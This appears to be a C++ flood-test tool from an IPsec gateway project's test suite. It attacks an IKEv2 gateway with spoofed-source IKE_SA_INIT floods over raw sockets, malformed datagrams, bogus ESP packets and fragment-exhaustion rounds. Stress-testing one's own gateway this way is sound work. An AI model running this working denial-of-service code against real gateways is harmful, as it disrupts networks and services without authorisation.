// ike_flood: an attacker for the flood test. Sends IKEv2 IKE_SA_INIT requests
// (a real one, built by ipsecgw's own engine as an initiator would) to a
// gateway as fast as one core allows, for a given time, in one of two ways:
//
//   spoof   from random source addresses in 100.64.0.0/10, each with its own
//           SPIi (raw socket, IP_HDRINCL: nobody can answer a COOKIE)
//   ports   from this host's address, one SPIi, every source port in turn
//           (no spoofing needed; the finding that made COOKIE never engage)
//
//   garbage random bytes (1 to 1500) to UDP 500 and 4500, IKE headers cut
//           short or claiming more than they carry, oversized messages
//   esp      ESP in UDP 4500 with random SPIs, and with SPI (if given as
//           SRC_ADDR: "0x..."): a real SA's, so its ICV check fails
//   frags   from SRC_ADDR, rounds of 100 IKE SAs that complete IKE_SA_INIT
//           (real DH, ipsecgw's engine as the initiator) and then send an
//           IKE_AUTH of about 40 KB (a huge identity) in fragments (RFC
//           7383), all but the last, so the gateway holds fragments that
//           never complete; a new round every 5 s
//
// usage: ike_flood spoof|ports|garbage|esp|frags DST_ADDR SECONDS [SRC_ADDR|SPI]
// Prints the number of datagrams sent.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <iostream>
#include <random>
#include <string>

#include "core/log.hpp"
#include "ike/engine.hpp"

using namespace ipsecgw;

namespace {

struct NullInstaller : core::SaInstaller {
  bool install(core::SaParams, std::string&) override { return true; }
  bool remove(const std::string&) override { return true; }
  bool update_path(const std::string&, const core::SaPath&) override { return true; }
};

// One IKE_SA_INIT request from an ipsecgw initiator (X25519, AES-GCM).
core::Bytes template_request(const core::IpAddress& src, const core::IpAddress& dst) {
  ike::ConnectionConfig c;
  c.name = "flood";
  c.local_addrs = {src};
  c.remote_addrs = {dst};
  std::string bad;
  c.proposals.push_back(*core::parse_proposal("aes128gcm16-prfsha256-x25519", bad));
  NullInstaller inst;
  std::vector<ike::ConnectionConfig> v;
  v.push_back(std::move(c));
  ike::Engine e(std::move(v), inst);
  std::string why;
  if (!e.initiate("flood", "", ike::Clock::now(), why)) throw std::runtime_error(why);
  auto out = e.take_output();
  if (out.empty()) throw std::runtime_error("no IKE_SA_INIT");
  return out[0].data;
}

std::uint16_t checksum(const std::uint8_t* p, std::size_t n) {
  std::uint32_t s = 0;
  for (std::size_t i = 0; i + 1 < n; i += 2) s += static_cast<std::uint32_t>(p[i] << 8 | p[i + 1]);
  if (n & 1) s += static_cast<std::uint32_t>(p[n - 1] << 8);
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return static_cast<std::uint16_t>(~s);
}

// UDP from this host (an ordinary socket): garbage IKE, or ESP in UDP.
int garbage(const std::string& mode, const core::IpAddress& dst, double seconds, const std::string& spi_hex) {
  const int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) return 1;
  std::mt19937_64 rng(7);
  const std::uint32_t real_spi = spi_hex.empty() ? 0 : static_cast<std::uint32_t>(std::stoul(spi_hex, nullptr, 16));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  std::memcpy(&to.sin_addr, dst.bytes().data(), 4);
  std::vector<std::uint8_t> buf(9000);
  const auto until = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  for (std::uint64_t i = 0;; ++i) {
    if ((i & 255) == 0 && std::chrono::steady_clock::now() >= until) break;
    std::size_t len = 1 + rng() % 1500;
    for (std::size_t k = 0; k < 1500; k += 8) {  // 8 random bytes at a time
      const std::uint64_t r = rng();
      std::memcpy(buf.data() + k, &r, 8);
    }
    std::uint16_t port = 500;
    if (mode == "garbage") {
      switch (i % 5) {
        case 0: break;                          // random bytes to 500
        case 1: port = 4500; buf[0] = buf[1] = buf[2] = buf[3] = 0; break;  // "IKE" on 4500, random
        case 2: {                               // an IKEv2 header claiming more than it carries
          buf[17] = 0x20;
          buf[18] = 34;
          const std::uint32_t claimed = static_cast<std::uint32_t>(len + 100 + rng() % 60000);
          buf[24] = static_cast<std::uint8_t>(claimed >> 24);
          buf[25] = static_cast<std::uint8_t>(claimed >> 16);
          buf[26] = static_cast<std::uint8_t>(claimed >> 8);
          buf[27] = static_cast<std::uint8_t>(claimed);
          len = std::max<std::size_t>(len, 28);
          break;
        }
        case 3: len = 1 + rng() % 27; break;    // shorter than any header
        case 4: len = 8000 + rng() % 1000; buf[17] = 0x20; break;  // oversized
      }
    } else {
      port = 4500;
      len = 64 + rng() % 1300;
      std::uint32_t spi = (i & 1) && real_spi ? real_spi : static_cast<std::uint32_t>(rng() | 0x100);
      buf[0] = static_cast<std::uint8_t>(spi >> 24);
      buf[1] = static_cast<std::uint8_t>(spi >> 16);
      buf[2] = static_cast<std::uint8_t>(spi >> 8);
      buf[3] = static_cast<std::uint8_t>(spi);
    }
    to.sin_port = htons(port);
    if (::sendto(fd, buf.data(), len, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
  }
  ::close(fd);
  std::cout << sent << "\n";
  return 0;
}

// IKE_AUTH request fragment whose number is its total: the one held back.
bool last_auth_fragment(const core::Bytes& d) {
  if (d.size() < 36 || d[16] != 53 || d[18] != 35 || (d[19] & 0x20)) return false;  // SKF, IKE_AUTH, request
  const unsigned num = static_cast<unsigned>(d[32] << 8 | d[33]), total = static_cast<unsigned>(d[34] << 8 | d[35]);
  return num == total && total > 1;
}

int fragments(const core::IpAddress& dst, const core::IpAddress& src, double seconds) {
  const int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) return 1;
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in me{};
  me.sin_family = AF_INET;
  me.sin_port = htons(500);
  std::memcpy(&me.sin_addr, src.bytes().data(), 4);
  if (::bind(fd, reinterpret_cast<sockaddr*>(&me), sizeof me) != 0) {
    std::perror("bind");
    return 1;
  }
  std::string bad;
  const auto proposal = *core::parse_proposal("aes128gcm16-prfsha256-x25519", bad);
  const auto esp = *core::parse_proposal("aes128gcm16", bad);
  std::mt19937_64 rng(11);
  const auto until = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0, held_back = 0;
  std::vector<std::uint8_t> buf(65536);
  while (std::chrono::steady_clock::now() < until) {
    std::vector<ike::ConnectionConfig> conns;
    for (int i = 0; i < 100; ++i) {
      ike::ConnectionConfig c;
      c.name = "f" + std::to_string(i);
      c.local_addrs = {src};
      c.remote_addrs = {dst};
      c.local_id = std::string(40000, 'a') + ".road-warrior.example";
      c.remote_id = "gw-a.example";
      c.proposals.push_back(proposal);
      std::string psk(32, '\0');
      for (auto& ch : psk) ch = static_cast<char>(rng());
      c.psk = core::SecureBytes(core::ByteSpan(reinterpret_cast<const std::uint8_t*>(psk.data()), psk.size()));
      ike::ChildConfig ch;
      ch.name = "lan";
      ch.local_ts = {*core::IpRange::parse("10.9.0.0/16")};
      ch.remote_ts = {*core::IpRange::parse("10.1.0.0/24")};
      ch.esp_proposals.push_back(esp);
      ch.start_action = ike::StartAction::kStart;
      c.children.push_back(std::move(ch));
      conns.push_back(std::move(c));
    }
    NullInstaller inst;
    ike::Engine e(std::move(conns), inst);
    e.start(ike::Clock::now());
    const auto round_end = std::min<std::chrono::steady_clock::time_point>(
        std::chrono::time_point_cast<std::chrono::steady_clock::duration>(until), std::chrono::steady_clock::now() + std::chrono::seconds(5));
    while (std::chrono::steady_clock::now() < round_end) {
      for (auto& d : e.take_output()) {
        if (last_auth_fragment(d.data)) {
          ++held_back;
          continue;
        }
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(d.remote.port);
        std::memcpy(&to.sin_addr, d.remote.addr.bytes().data(), 4);
        if (::sendto(fd, d.data.data(), d.data.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
      }
      pollfd pfd{fd, POLLIN, 0};
      if (::poll(&pfd, 1, 5) > 0) {
        sockaddr_in from{};
        socklen_t fl = sizeof from;
        const ssize_t n = ::recvfrom(fd, buf.data(), buf.size(), 0, reinterpret_cast<sockaddr*>(&from), &fl);
        if (n > 0) {
          const auto peer = core::IpAddress::v4(core::ByteSpan(reinterpret_cast<const std::uint8_t*>(&from.sin_addr), 4));
          e.receive({{src, 500}, {peer, ntohs(from.sin_port)}, core::Bytes(buf.begin(), buf.begin() + n)},
                    ike::Clock::now());
        }
      }
      e.tick(ike::Clock::now());
    }
  }
  ::close(fd);
  std::cerr << "last fragments held back: " << held_back << "\n";
  std::cout << sent << "\n";
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 4) {
    std::cerr << "usage: ike_flood spoof|ports|garbage|esp|frags DST_ADDR SECONDS [SRC_ADDR|SPI]\n";
    return 2;
  }
  core::log::set_level(core::log::Level::kError);
  const std::string mode = argv[1];
  const auto dst = core::IpAddress::parse(argv[2]);
  const double seconds = std::stod(argv[3]);
  if (mode == "garbage" || mode == "esp") return garbage(mode, *dst, seconds, argc > 4 ? argv[4] : "");
  const auto src = core::IpAddress::parse(argc > 4 ? argv[4] : "100.64.0.1");
  if (!dst || !dst->is_v4() || !src) return 2;
  if (mode == "frags") return fragments(*dst, *src, seconds);
  const core::Bytes ike = template_request(*src, *dst);
  std::mt19937_64 rng(42);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(500);
  std::memcpy(&to.sin_addr, dst->bytes().data(), 4);
  const auto until = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  // A raw socket for both: in "ports" mode with our own address (one
  // socket per source port would be slow).
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("raw socket");
    return 1;
  }
  std::vector<std::uint8_t> pkt(20 + 8 + ike.size());
  std::memcpy(pkt.data() + 28, ike.data(), ike.size());
  auto* ip = reinterpret_cast<iphdr*>(pkt.data());
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(static_cast<std::uint16_t>(pkt.size()));
  std::memcpy(&ip->daddr, dst->bytes().data(), 4);
  auto* udp = reinterpret_cast<udphdr*>(pkt.data() + 20);
  udp->dest = htons(500);
  udp->len = htons(static_cast<std::uint16_t>(8 + ike.size()));
  std::uint32_t port = 1024;
  while (true) {
    if ((sent & 255) == 0 && std::chrono::steady_clock::now() >= until) break;
    if (mode == "spoof") {
      const std::uint64_t r = rng();
      const std::uint32_t a = 0x64400000u | static_cast<std::uint32_t>(r & 0x3fffff);  // 100.64.0.0/10
      const std::uint32_t be = htonl(a);
      std::memcpy(&ip->saddr, &be, 4);
      udp->source = htons(static_cast<std::uint16_t>(1024 + (r >> 32) % 60000));
      std::memcpy(pkt.data() + 28, &r, 8);  // SPIi
    } else {
      std::memcpy(&ip->saddr, src->bytes().data(), 4);
      udp->source = htons(static_cast<std::uint16_t>(port));
      port = port == 65535 ? 1024 : port + 1;
    }
    ip->check = 0;
    ip->check = checksum(pkt.data(), 20);
    udp->check = 0;  // optional over IPv4
    if (::sendto(fd, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
  }
  ::close(fd);
  std::cout << sent << "\n";
  return 0;
}
